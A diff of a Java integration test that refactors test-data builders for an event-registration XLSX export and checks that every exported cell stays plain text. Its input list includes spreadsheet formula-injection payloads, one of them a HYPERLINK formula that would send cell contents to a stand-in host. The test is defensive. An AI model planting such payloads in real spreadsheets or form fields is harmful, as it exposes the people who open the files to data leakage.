@@ -10,6 +10,9 @@ import org.apache.poi.ss.usermodel.Row;
 import org.apache.poi.ss.usermodel.Sheet;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import org.junit.jupiter.api.Test;
+import org.winformusic.events.IntegrationTest;
+import org.winformusic.events.TestEvents;
+import org.winformusic.events.TestRegistrations;
 
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
@@ -17,7 +20,6 @@ import org.springframework.jdbc.core.simple.JdbcClient;
 import org.springframework.security.test.context.support.WithMockUser;
 import org.springframework.test.web.servlet.MockMvc;
 import org.springframework.test.web.servlet.MvcResult;
-import org.winformusic.events.IntegrationTest;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
@@ -38,17 +40,12 @@ class ExportXlsxTests {
 
 	@Test
 	void everyCellIsTextWithTheStoredValueEvenFormulasAndPhoneNumbers() throws Exception {
-		TestExportData data = new TestExportData(this.jdbc);
-		String slug = data.event("xlsx");
+		TestRegistrations data = new TestRegistrations(this.jdbc);
+		String slug = new TestEvents(this.jdbc).event().slugPrefix("xlsx").withoutSeats().create().slug();
 		List<String> payloads = List.of("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "=HYPERLINK(\"http://x?\"&A1)",
 				"x\",=1+1", "José Peña 🎶 مرحبا");
 		for (String payload : payloads) {
-			data.registration(slug).with((r) -> {
-				r.fullName = payload;
-				r.phone = "+52 0055 1234";
-				r.status = "WAITLISTED";
-				r.confirmedAt = null;
-			}).insert();
+			data.in(slug).fullName(payload).phone("+52 0055 1234").status("WAITLISTED").confirmedAt(null).create();
 		}
 
 		MvcResult result = this.mvc.perform(get("/admin/events/" + slug + "/registrations.xlsx?lang=en"))
